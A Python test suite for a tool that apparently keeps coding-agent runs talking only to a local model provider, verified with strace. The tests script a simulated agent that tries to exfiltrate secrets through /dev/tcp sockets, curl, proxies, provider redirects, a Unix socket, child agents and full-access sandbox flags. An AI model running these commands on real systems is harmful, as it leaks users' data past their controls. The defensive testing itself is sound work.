"""Where a local run talks to, seen at its sockets: to the provider that was checked, and to nobody else."""

from __future__ import annotations

import os
import re
import shutil
import socket
import threading
from typing import TYPE_CHECKING

import pytest

from conftest import STAYLOCAL, Done, World
from leak import REFUSED, TOKEN, WORD, Lab, opened
from staylocal.loopback import Model, Server, call, calls, message, says

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from staylocal.loopback import Item, Script

LOCAL = ("exec", "--oss", "--local-provider", "ollama", "-m", "llama3.2:latest")
FORCED = ("exec", f"use {TOKEN}")
# Everything that a user may have switched on, and that talks to somebody. {0}: the port of a server nobody asked for.
BUSY = """
notify = ["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/{0}; echo notify >&3"]
web_search = "live"

[analytics]
enabled = true

[features]
apps = true
plugins = true

[otel]
environment = "test"
log_user_prompt = true
exporter = {{ otlp-http = {{ endpoint = "http://127.0.0.1:{0}/otel", protocol = "json" }} }}

[mcp_servers.spy]
command = "bash"
args = ["-c", "exec 3<>/dev/tcp/127.0.0.1/{0}; echo server >&3; cat"]
"""
_NSCD_HOSTS = re.compile(r'"\\2\\0\\0\\0(?:\\[4567]|\\r|\\16)\\0\\0\\0')  # a request for a host's name or address
_PORT = re.compile(r"sin6?_port=htons\((\d+)\)")
_ADDRESS = re.compile(r'inet_(?:addr\(|pton\(AF_INET6, )"([^"]+)"')
_SENDS = re.compile(r"\b(connect|sendto|sendmsg|sendmmsg)\(")


@pytest.fixture
def lab(world: World, client: Path) -> Iterator[Lab]:
    with opened(world, client) as made:
        yield made


@pytest.fixture
def strace() -> str:
    """Its path. Without it the test is skipped, in CI it fails."""
    found = shutil.which("strace")
    if found is None:
        assert "CI" not in os.environ, "strace is needed here"
        pytest.skip("there is no strace")
    return found


def contacts(lab: Lab, strace: str, program: str, *words: str, **env: str) -> tuple[Done, set[tuple[str, int]]]:
    """Run it; every address and port that any of its processes tried to send to, whether it could or not."""
    log = lab.root.parent / "strace"
    done = lab.world.run(
        strace, "-f", "-qq", "-s", "200", "-e", "trace=network", "-o", str(log), program, *words, **(lab.env | env)
    )
    lines = [line for line in log.read_text(errors="replace").splitlines() if _SENDS.search(line)]
    others = [line for line in lines if "sun_path=" in line and line.endswith("= 0") and "/nscd/" not in line]
    assert not others, others  # a resolver, a bus, a daemon that would send for it
    assert not [line for line in lines if _NSCD_HOSTS.search(line)]
    found = set()
    for line in lines:
        port, address = _PORT.search(line), _ADDRESS.search(line)
        if port and address:
            found.add((address[1], int(port[1])))
    return done, found


def provider(lab: Lab) -> tuple[str, int]:
    return "127.0.0.1", lab.local.port


def proxied(server: Server) -> dict[str, str]:
    names = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY")
    return {each: server.url for name in names for each in (name, name.lower())}


def reaches_out(other: Server) -> Script:
    """An agent that tries every way out."""
    port = other.port
    return calls(
        f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo leak >&3; echo exit $?",
        f"curl -sS -m 2 http://127.0.0.1:{port}/agent; curl -sS -m 2 http://example.com/; echo exit $?",
        f"git ls-remote http://127.0.0.1:{port}/leak; getent hosts leak.example.com; echo exit $?",
        f"HTTPS_PROXY=http://127.0.0.1:{port} curl -sS -m 2 https://example.com/; echo exit $?",
        text=WORD,
    )


# --- nobody but the provider


def test_alone_the_client_talks_to_many(lab: Lab, strace: str) -> None:
    with Server("hosted") as other:
        lab.configure(BUSY.format(other.port))
        done, found = contacts(lab, strace, "codex", *LOCAL, "hi")
        assert done.code == 0, done
        assert provider(lab) in found
        assert ("127.0.0.1", other.port) in found
        assert 53 in {port for _, port in found}
        assert any(each.path == "/otel" for each in other.requests)
        other.requests.clear()
        _, found = contacts(lab, strace, "codex", *LOCAL, "hi", **proxied(other))
        assert provider(lab) not in found
        assert lab.local.url in {each.path.removesuffix("/v1/models") for each in other.requests}


@pytest.mark.parametrize(
    "words",
    [
        pytest.param((*LOCAL, "hi"), id="asked-for"),
        pytest.param((*LOCAL, "-s", "workspace-write", "hi"), id="asked-for-write"),
        pytest.param(FORCED, id="prompt"),
        pytest.param((*FORCED, "-s", "workspace-write", "-c", 'web_search="live"'), id="prompt-write-search"),
        pytest.param(("review", "--uncommitted"), id="review"),
        pytest.param(("-c", 'model_provider="ollama"', "exec", "--json", "hi"), id="configured"),
    ],
)
def test_a_local_run_talks_to_its_provider_only(lab: Lab, strace: str, words: tuple[str, ...]) -> None:
    lab.world.write("config.py", f"TOKEN = '{TOKEN}'\n")
    lab.world.git("add", "-N", ".")
    with Server("hosted") as other:
        lab.configure(BUSY.format(other.port))
        lab.local.script = reaches_out(other)
        done, found = contacts(lab, strace, STAYLOCAL, "codex", *words, **proxied(other))
        assert done.code == 0, done
        assert found == {provider(lab)}
        assert other.requests == []
    assert lab.hosted.requests == []
    assert len(lab.local.prompts()) > 4, "the agent tried all of its ways out"
    assert WORD in done.out


def test_a_resumed_local_run_talks_to_its_provider_only(lab: Lab, strace: str) -> None:
    assert lab.wrapped(*FORCED).code == 0
    with Server("hosted") as other:
        lab.configure(BUSY.format(other.port))
        done, found = contacts(lab, strace, STAYLOCAL, "codex", "exec", "resume", "--last", "go on")
    assert done.code == 0, done
    assert found == {provider(lab)}
    assert lab.stayed(TOKEN)
    assert lab.hosted.requests == []


@pytest.mark.parametrize(
    "words",
    [
        pytest.param(("exec", "-m", "gpt-5.2-codex", f"use {TOKEN}"), id="exec"),
        pytest.param(("cloud", "exec", f"use {TOKEN}"), id="cloud"),
        pytest.param(("exec", "--no-such-option", f"use {TOKEN}"), id="unknown-option"),
    ],
)
def test_what_is_refused_talks_to_nobody(lab: Lab, strace: str, words: tuple[str, ...]) -> None:
    with Server("hosted") as other:
        lab.configure(BUSY.format(other.port))
        lab.local.models = ()
        done, found = contacts(lab, strace, STAYLOCAL, "codex", *words, **proxied(other))
    assert done.code == REFUSED, done
    assert found <= {provider(lab), ("127.0.0.1", 1234)}  # the local providers were asked for their models
    assert lab.hosted.requests == other.requests == []


def test_a_socket_in_the_file_system_is_no_way_out(lab: Lab) -> None:
    """Docker, an SSH agent, a message bus: they would send whatever they are told to."""
    heard: list[bytes] = []
    path = lab.root.parent / "bus"
    with socket.socket(socket.AF_UNIX) as bus:
        bus.bind(str(path))
        bus.listen()
        bus.settimeout(0.2)
        done = threading.Event()

        def serve() -> None:
            while not done.is_set():
                try:
                    connection, _ = bus.accept()
                except TimeoutError:
                    continue
                with connection:
                    heard.append(connection.recv(16))

        thread = threading.Thread(target=serve)
        thread.start()
        program = f'use IO::Socket::UNIX; $s = IO::Socket::UNIX->new(Peer => "{path}") or die "no: $!"; print $s "leak"'
        try:
            assert lab.world.run("perl", "-e", program).code == 0
            lab.local.script = calls(f"perl -e '{program}'; echo exit $?")
            assert lab.wrapped(*FORCED, SSH_AUTH_SOCK=str(path)).code == 0
        finally:
            done.set()
            thread.join()
    assert heard == [b"leak"], "the first one is the control's"
    assert b"no: " in lab.local.requests[-1].body


# --- a provider that is not what it says


def redirecting(lab: Lab) -> Script:
    """From the second request on the provider answers with a redirect to the hosted side."""
    commands = calls("cat secrets.txt")

    def script(request: dict[str, object]) -> list[Item]:
        lab.local.redirect = lab.hosted.url
        return commands(request)

    return script


def test_a_redirect_to_elsewhere_is_not_followed(lab: Lab) -> None:
    lab.world.write("secrets.txt", f"{WORD} {TOKEN}\n")
    lab.agent(redirecting(lab))
    lab.plain(*LOCAL, "hi")
    assert lab.leaked(WORD), "the client follows it, with all that it has read"
    lab.forget().local.redirect = ""
    lab.agent(redirecting(lab))
    done = lab.wrapped(*LOCAL, "hi")
    assert done.code not in {0, REFUSED}, done
    assert lab.local.prompts(), "it did begin"
    assert lab.hosted.requests == []


def test_a_provider_that_redirects_from_the_start_is_refused(lab: Lab) -> None:
    lab.local.redirect = lab.hosted.url
    done = lab.wrapped(*FORCED)
    assert done.code == REFUSED, done
    assert "sends elsewhere" in done.err
    assert lab.hosted.requests == []


@pytest.mark.parametrize(
    ("model", "words"),
    [
        (Model(name="gpt-oss:120b-cloud"), ("-m", "gpt-oss:120b-cloud")),
        (Model(name="qwen3-coder:480b:cloud"), ("-m", "qwen3-coder:480b:cloud")),
        (Model(name="llama3.2:latest", remote_host="https://ollama.com:443"), ("-m", "llama3.2:latest")),
        (Model(name="llama3.2:latest", remote_host="https://ollama.com:443"), ()),
    ],
)
def test_a_cloud_model_is_not_a_local_one(lab: Lab, model: Model, words: tuple[str, ...]) -> None:
    lab.local.models = (model,)
    lab.plain("exec", "--oss", "--local-provider", "ollama", "-m", model.name, "hi")
    assert len(lab.local.prompts()) == 1, "the client alone takes it"
    done = lab.forget().wrapped("exec", "--oss", *words, f"use {TOKEN}")
    assert done.code == REFUSED, done
    assert lab.went == "nowhere"
    assert "cloud" in done.err or "ollama.com" in done.err


# --- what a provider must have


def pulled(lab: Lab) -> bool:
    return any(each.path == "/api/pull" for each in lab.local.requests)


def test_a_missing_model_is_not_pulled(lab: Lab) -> None:
    lab.plain("exec", "--oss", "--local-provider", "ollama", "-m", "mistral:7b", "hi")
    assert pulled(lab), "the client alone pulls it"
    done = lab.forget().wrapped("exec", "--oss", "-m", "mistral:7b", "hi")
    assert done.code == REFUSED, done
    assert "mistral:7b" in done.err
    assert not pulled(lab)
    assert lab.went == "nowhere"


def test_a_small_context_is_refused_with_both_numbers(lab: Lab) -> None:
    lab.local.models = (Model(name="llama3.2:latest", context=4096),)
    done = lab.wrapped(*FORCED)
    assert done.code == REFUSED, done
    needed = re.search(r"about ([\d,]+) tokens are needed", done.err)
    assert needed
    assert int(needed[1].replace(",", "")) > 4096
    assert "4,096" in done.err
    assert lab.went == "nowhere"


def test_without_a_provider_nothing_goes_anywhere(lab: Lab) -> None:
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))  # not listening, and nobody else's
        address = f"http://127.0.0.1:{closed.getsockname()[1]}/v1"
        done = lab.wrapped(*FORCED, CODEX_OSS_BASE_URL=address)
    assert done.code == REFUSED, done
    assert "ollama serve" in done.err
    assert lab.went == "nowhere"


def policy(lab: Lab, text: str) -> None:
    """The user's own policy."""
    path = lab.home.parent / "config" / "staylocal" / "config.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def test_the_second_provider_is_tried_next(lab: Lab) -> None:
    with Server("lmstudio", models=(Model(name="qwen/qwen3", loaded=32768),)) as studio, socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        ollama = f"http://127.0.0.1:{closed.getsockname()[1]}"
        policy(
            lab,
            '[local]\nprovider = ["ollama", "lmstudio"]\n'
            f'address = {{ ollama = "{ollama}", lmstudio = "{studio.url}" }}\n'
            'model = { ollama = "llama3.2", lmstudio = "qwen/qwen3" }\n',
        )
        done = lab.wrapped(*FORCED)
        assert done.code == 0, done
        assert studio.prompts()[-1]["model"] == "qwen/qwen3"
    assert "ollama was tried first" in done.err
    assert lab.went == "nowhere", "neither hosted nor the other Ollama"


# --- what an agent could do


def test_an_agent_can_start_no_child_under_another_model(lab: Lab) -> None:
    child: dict[str, object] = {"task_name": "x", "message": "say hi", "model": "other-model", "agent_type": "default"}

    def script(request: dict[str, object]) -> list[Item]:
        return [message("done")] if "function_call_output" in str(request["input"]) else [
            call(name, f"c-{name}", **child) for name in ("spawn_agent", "collaboration.spawn_agent")
        ]  # fmt: skip

    lab.agent(script)
    lab.plain(*LOCAL, "hi")
    assert "spawn_agent" in str(lab.local.prompts()[0]["tools"]), "the client alone offers it"
    done = lab.forget().wrapped(*LOCAL, "hi")
    assert done.code == 0, done
    assert "spawn_agent" not in str(lab.local.prompts()[0]["tools"])
    assert {each["model"] for each in lab.local.prompts()} == {"llama3.2:latest"}


def test_the_answer_of_a_local_run_stays_here(lab: Lab) -> None:
    """What was sensitive made it local; so the file that its answer went to is sensitive, whatever it says."""
    lab.agent(says(f"the answer is {WORD}"))
    done = lab.wrapped(*FORCED, "-o", "answer.txt")
    assert (done.code, (lab.root / "answer.txt").read_text()) == (0, f"the answer is {WORD}")
    lab.forget().agent(calls("cat answer.txt; cp answer.txt b; cat b"))
    lab.plain("exec", "-s", "workspace-write", "hi")
    assert lab.leaked(WORD), "the client alone reads it"
    (lab.root / "b").unlink()
    lab.forget().agent(calls("cat answer.txt; cp answer.txt b; cat b", "mv answer.txt c; cat c"))
    done = lab.wrapped("exec", "-s", "workspace-write", "hi")
    assert (done.code, lab.went) == (0, "hosted")
    assert not lab.leaked(WORD)
    assert lab.forget().wrapped("exec", "sum up answer.txt").code == 0
    assert lab.went == "local"


@pytest.mark.parametrize(
    "words",
    [
        ("exec", "-s", "danger-full-access", f"use {TOKEN}"),
        ("exec", "--dangerously-bypass-approvals-and-sandbox", f"use {TOKEN}"),
        ("exec", "-c", 'sandbox_mode="danger-full-access"', f"use {TOKEN}"),
    ],
)
def test_full_access_is_no_way_for_what_is_sensitive(lab: Lab, words: tuple[str, ...]) -> None:
    with Server("hosted") as other:
        lab.local.script = calls(f"exec 3<>/dev/tcp/127.0.0.1/{other.port}; echo sent")
        done = lab.wrapped(*words)
        assert done.code == REFUSED, done
        assert "full_access" in done.err
        assert lab.went == "nowhere"
        policy(lab, "[local]\nfull_access = true\n")
        done = lab.wrapped(*words)
        assert (done.code, lab.went) == (0, "local"), done
        assert "sent" in str(lab.local.prompts()[-1]["input"]), "the user has said that it may"
